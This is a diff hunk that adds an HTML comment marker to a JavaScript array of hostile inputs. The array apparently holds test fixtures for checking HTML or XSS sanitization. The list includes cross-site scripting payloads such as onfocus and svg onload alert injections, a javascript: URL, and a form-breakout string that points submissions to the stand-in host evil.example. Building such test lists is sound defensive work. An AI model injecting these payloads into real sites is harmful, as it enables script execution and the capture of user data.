@@ -9,6 +9,7 @@ const HOSTILE = [
   '</textarea></form><form action=//evil.example>',
   '" autofocus onfocus=alert(1) x="',
   '<!--',
+  '<!--/email_off-->',
   ']]><svg/onload=alert(1)>',
   '&lt;script&gt;',
   'javascript:alert(1)',
